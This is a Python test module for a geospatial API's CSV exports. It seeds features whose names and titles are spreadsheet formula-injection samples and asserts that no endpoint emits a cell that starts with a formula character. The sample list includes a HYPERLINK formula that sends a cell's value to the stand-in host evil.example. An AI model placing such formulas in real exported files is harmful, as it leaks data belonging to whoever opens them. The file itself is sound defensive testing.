"""Features as CSV, by every address that offers it: what a sender wrote becomes no formula of who opens the file."""

import csv
import io
from collections.abc import Iterator
from typing import Any

import httpx
import psycopg
import pytest
from psycopg.types.json import Jsonb

from tests.gateway.serving.conftest import Served

ROW = "insert into geo.{} values (%s, %s, %s, 'srid=4326;point(14 47)')"
TABLE = "v_c5c5c5c5c5c5c5c5c5c5c5c5"
WORDS = ["plain", "=1+1", "+1;=2", "@SUM(A1)", "-1+1", "-12", "\t=1", '=HYPERLINK("http://evil.example?"&B1)']
FORMULA = ("=", "+", "-", "@")
LAYER = {
    "columns": [
        {"name": "name", "title": "=title", "type": "text"},
        {"name": "depth", "title": "depth", "type": "double precision"},
    ],
    "crs": "EPSG:4326",
    "geometry_type": "Point",
    "feature_count": len(WORDS),
    "bounds_wgs84": [14.0, 47.0, 14.1, 47.1],
}
# Every address whose document says that it answers with CSV, and how it is asked here.
ASKED: dict[str, list[tuple[str, dict[str, str]]]] = {
    "/collections/{collectionId}/items": [
        ("/vector/collections/sheets/items?f=csv", {}),
        ("/vector/collections/sheets/items", {"Accept": "text/csv"}),
        ("/vector/collections/sheets/items?f=csv&properties=name", {}),
    ],
    "/collections/{collectionId}/items/{itemId}": [("/vector/collections/sheets/items/2?f=csv", {})],
}


@pytest.fixture(autouse=True, scope="module")
def sheets(served: Served) -> Iterator[None]:
    rows = [(number, words, -number / 4) for number, words in enumerate(WORDS, 1)]
    with psycopg.connect(served.admin_url, autocommit=True) as connection:
        connection.execute(
            f"create table geo.{TABLE} (fid bigint, name text, depth float8, geom geometry(Point, 4326))".encode()
        )
        with connection.cursor() as cursor:
            cursor.executemany(ROW.format(TABLE).encode(), rows)
        connection.execute(f"grant select on geo.{TABLE} to cairn_serving".encode())
        connection.execute(
            "insert into api.products (asset_id, platform_id, ordinal, revision, clearance, approval, is_latest,"
            " exposure, table_name, layer) values ('sheets', 'ddh', 1, 1, 'public', 'approved', true, 'latest_only',"
            " %s, %s)",
            [TABLE, Jsonb(LAYER)],
        )
        yield
        connection.execute("delete from api.products where asset_id = 'sheets'")
        connection.execute(f"drop table geo.{TABLE}".encode())


def offering(document: dict[str, Any]) -> set[str]:
    """The addresses that offer CSV."""
    return {
        path
        for path, item in document["paths"].items()
        for operation in item.values()
        for answer in operation.get("responses", {}).values()
        if any("csv" in kind for kind in answer.get("content", {}))
    }


def is_formula(shown: str) -> bool:
    try:
        float(shown)
    except ValueError:
        return shown.lstrip().startswith(FORMULA)
    return False


@pytest.mark.filterwarnings("ignore:Duplicate Operation ID")
async def test_no_address_that_offers_csv_writes_a_formula(client: httpx.AsyncClient) -> None:
    transport: Any = client._transport
    state = transport.app.state
    documents = [transport.app.openapi(), state.features.openapi(), state.catalog.openapi()]
    assert {path for document in documents for path in offering(document)} == set(ASKED)
    for address, headers in (each for asked in ASKED.values() for each in asked):
        answer = await client.get(address, headers=headers)
        assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8"), address
        for separator in ",;\t":
            rows = list(csv.reader(io.StringIO(answer.text, newline=""), delimiter=separator))
            assert not [shown for row in rows for shown in row if is_formula(shown)], (address, separator)


async def test_numbers_and_plain_words_arrive_unchanged_in_csv(client: httpx.AsyncClient) -> None:
    answer = await client.get("/vector/collections/sheets/items?f=csv")
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [float(row["depth"]) for row in rows] == [-number / 4 for number in range(1, len(WORDS) + 1)]
    assert [row["name"] for row in rows if row["itemId"] in {"1", "6"}] == ["plain", "-12"]


async def test_page_without_features_is_an_empty_csv_file(client: httpx.AsyncClient) -> None:
    answer = await client.get("/vector/collections/sheets/items?f=csv&ids=999")
    assert (answer.status_code, answer.text) == (200, "")
